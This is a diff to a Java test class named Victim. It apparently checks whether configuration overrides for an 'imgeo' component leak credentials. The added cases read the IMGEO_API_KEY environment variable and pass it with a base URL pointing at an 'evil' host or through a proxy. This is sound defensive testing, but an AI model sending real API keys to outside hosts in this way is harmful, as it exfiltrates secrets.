@@ -32,6 +32,12 @@ final class Victim {
         victim.run("proxy", Map.of("imgeo.base.url", operators, "camel.component.imgeo.proxy", proxy));
         victim.run("PROXY", Map.of("imgeo.base.url", operators, "camel.component.imgeo.PRO-XY", proxy));
         victim.run("trust", Map.of("imgeo.ssl.truststore.certificates", anyCertificate()));
+        String key = System.getenv("IMGEO_API_KEY"); // as a worker resolves ${env:IMGEO_API_KEY}
+        victim.run("reference", Map.of("imgeo.api.key", key, "imgeo.base.url", evil + "/reference"));
+        victim.run(
+                "reference-proxy",
+                Map.of("imgeo.api.key", key, "imgeo.base.url", operators, "camel.component.imgeo.proxy", proxy));
+        victim.run("operators-reference", Map.of("imgeo.api.key", key, "imgeo.base.url", operators));
         System.exit(0); // whatever a task has left running
     }
 
